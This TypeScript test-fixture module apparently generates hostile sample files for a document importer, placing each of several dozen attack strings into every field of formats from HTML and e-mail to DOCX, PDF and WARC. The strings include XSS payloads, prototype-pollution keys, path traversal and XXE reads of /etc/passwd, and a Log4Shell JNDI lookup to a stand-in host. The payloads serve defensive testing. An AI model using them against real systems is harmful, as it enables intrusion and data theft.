import { sentence } from './hostile-file.ts';
import type { HostileFile } from './hostile-file.ts';
import { makeDocx, p } from './make-docx.ts';
import { makeMsg } from './make-msg.ts';
import { makeOdt } from './make-odt.ts';
import { makePdf } from './make-pdf.ts';
import { httpAnswer, warcFile } from './make-warc.ts';
import { makeZip } from './make-zip.ts';

const onEvents = ['onerror', 'onload', 'onclick', 'onpointerover', 'onbeforetoggle', 'onfocus', 'onanimationend'];

/** Texts that would run or load something where a text is taken for more than a text. */
export const vectors: readonly string[] = [
  ...onEvents.map((event) => `<img src=x ${event}=globalThis.polluted=1>`),
  '<script>globalThis.polluted=1</script>',
  '<svg><script>1</script><animate attributeName=href to=javascript:1 /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=1></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=1>"></noscript>',
  '<a href="javascript:alert(1)">Karte</a>',
  '<a href="java\tscript:alert(1)">Karte</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">Karte</a>',
  '<a href="\u0001javascript:alert(1)">Karte</a>',
  '<a href="data:text/html,<script>1</script>">Karte</a>',
  '<a href="file:///etc/passwd">Karte</a>',
  '<a href="\\\\fremd.example\\teil">Karte</a>',
  '<a href="https://nutzer:wort@fremd.example">Karte</a>',
  '<iframe src="https://fremd.example"></iframe>',
  '<link rel=stylesheet href="https://fremd.example/a.css"><style>@import "https://fremd.example/b.css"</style>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="javascript:1//">',
  '<form action="https://fremd.example"><input name=a><button formaction=javascript:1>Los</button></form>',
  '<object data="https://fremd.example"></object><embed src="javascript:1">',
  '[Karte](javascript:alert(1)) ![Bild](data:text/html,x) [a]: vbscript:x',
  'javascript:alert(1)',
  '__proto__',
  'constructor',
  '{{constructor.constructor("return this")()}}',
  '=HYPERLINK("https://fremd.example";"Karte")',
  '\u202egpj.exe\u202c \u2066verkehrt\u2069',
  '../../../../etc/passwd',
  'Wort\u0000Ende',
  '${jndi:ldap://fremd.example/a}',
  '&lt;script&gt;1&lt;/script&gt;',
  ']]><!ENTITY x SYSTEM "file:///etc/passwd">',
];

const escaped = (text: string): string =>
  text
    .replace(/[\u0000-\u0008]/g, '')
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');
const oneLine = (text: string): string => text.replace(/[\r\n\u0000]/g, ' ');

/** One hostile text in every field of every format that has text fields. */
export function inEveryField(vector: string): HostileFile[] {
  const v = vector;
  const e = escaped(v);
  const page = `<!doctype html><html><head><title>${v}</title><meta name="description" content="${e}"><meta property="og:title" content="${e}"><meta property="og:url" content="${e}"><link rel="canonical" href="${e}"><script type="application/ld+json">${JSON.stringify({ '@type': 'NewsArticle', headline: v, url: v, author: { name: v }, datePublished: v, __proto__: { polluted: 1 } })}</script></head><body ${v}><article><h1>${v}</h1><p class="author">Von ${v}</p><p>${sentence} ${v}</p><a href="${e}">Karte</a><img src="${e}" alt="${e}"><figure><img srcset="${e} 2x"><figcaption>${v}</figcaption></figure></article></body></html>`;
  const mime = `From: "${oneLine(v)}" <a@b.example>\r\nTo: ${oneLine(v)}\r\nSubject: ${oneLine(v)}\r\nX-${oneLine(v)}: 1\r\n__proto__: polluted\r\nDate: ${oneLine(v)}\r\nContent-Type: multipart/mixed; boundary="g"\r\n\r\n`;
  const parts = (main: string): string =>
    `--g\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: ${oneLine(v)}\r\n\r\n${main}\r\n--g\r\nContent-Type: text/plain; name="${oneLine(v)}"\r\nContent-Disposition: attachment; filename="${oneLine(v)}.txt"\r\n\r\n${sentence}\r\n--g--\r\n`;
  const record = { title: v, text: sentence, [v]: v, url: v, author: v };
  return [
    { name: 'seite.html', bytes: page },
    { name: 'seite.mhtml', bytes: `Snapshot-Content-Location: ${oneLine(v)}\r\n${mime}${parts(page)}` },
    { name: 'brief.eml', bytes: `${mime}${parts(`<p>${sentence} ${v}</p><img src="cid:${e}">`)}` },
    {
      name: 'brief.msg',
      bytes: makeMsg({
        subject: v,
        senderName: v,
        headers: `Subject: ${oneLine(v)}`,
        html: page,
        attachments: [{ name: v, bytes: new TextEncoder().encode(sentence) }],
      }),
    },
    { name: 'text.txt', bytes: `${v}\n\n${sentence}\n\n${v}` },
    { name: 'text.md', bytes: `---\ntitle: ${v}\n__proto__: ${v}\nurl: ${v}\n---\n\n# ${v}\n\n${sentence} ${v}` },
    {
      name: 'wort.docx',
      bytes: makeDocx({
        body: `${p(v.replace(/[\u0000-\u0008]/g, ''))}${p(sentence)}<w:p><w:hyperlink r:id="x"><w:r><w:t>Karte</w:t></w:r></w:hyperlink></w:p>`,
        core: `<dc:title>${e}</dc:title><dc:creator>${e}</dc:creator><cp:keywords>${e}</cp:keywords>`,
        relations: [`x|hyperlink|${e}|External`, `y|image|${e}|External`],
      }),
    },
    {
      name: 'text.odt',
      bytes: makeOdt({
        body: `<text:h text:outline-level="1">${e}</text:h><text:p>${sentence}<text:a xlink:href="${e}">Karte</text:a></text:p>`,
        meta: `<dc:title>${e}</dc:title><dc:creator>${e}</dc:creator>`,
      }),
    },
    {
      name: 'text.rtf',
      bytes: `{\\rtf1\\ansi{\\info{\\title ${v}}{\\author ${v}}}{\\b ${v}}\\par ${sentence}\\par{\\field{\\*\\fldinst HYPERLINK "${v}"}{\\fldrslt Karte}}\\par{\\object\\objdata 4d5a}}`,
    },
    {
      name: 'feed.xml',
      bytes: `<?xml version="1.0"?><rss version="2.0"><channel><title>${e}</title><link>${e}</link><item><title>${e}</title><link>${e}</link><guid>${e}</guid><author>${e}</author><category>${e}</category><enclosure url="${e}" type="image/png"/><description>${e} ${sentence}</description></item></channel></rss>`,
    },
    {
      name: 'feed.json',
      bytes: JSON.stringify({
        version: 'https://jsonfeed.org/version/1.1',
        title: v,
        items: [{ id: v, url: v, external_url: v, image: v, title: v, content_html: `${sentence} ${v}`, authors: [{ name: v }], [v]: v }],
      }),
    },
    {
      name: 'daten.json',
      bytes: `[{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, ${JSON.stringify(record).slice(1)}]`,
    },
    {
      name: 'daten.jsonl',
      bytes: `${JSON.stringify(record)}\n{"__proto__": {"polluted": 1}, "title": "Karte", "text": ${JSON.stringify(sentence)}}\n`,
    },
    {
      name: 'daten.csv',
      bytes: `__proto__;constructor;titel;text;"${v.replaceAll('"', '""')}"\n1;2;"${v.replaceAll('"', '""')}";${sentence};"${v.replaceAll('"', '""')}"\n3;4;Karte;${sentence};x\n`,
    },
    { name: 'link.url', bytes: `[InternetShortcut]\r\nURL=${oneLine(v)}\r\nIconFile=${oneLine(v)}\r\n` },
    {
      name: 'blatt.pdf',
      bytes: makePdf(
        [
          {
            texts: [{ text: sentence.slice(0, 80), x: 60, y: 700 }],
            links: [{ uri: v.replace(/[^\u0020-\u007e]/g, ''), rect: [0, 0, 600, 800] }],
          },
        ],
        `/Info << /Title (${v.replace(/[^\u0020-\u007e]|[()\\]/g, '')}) >>`,
      ),
    },
    {
      name: 'mappe.zip',
      bytes: makeZip([
        { name: v, bytes: sentence },
        { name: `ordner/${v}.html`, bytes: page },
      ]),
    },
    { name: 'seiten.warc', bytes: warcFile([{ type: 'response', url: oneLine(v), block: httpAnswer(page) }]) },
  ];
}
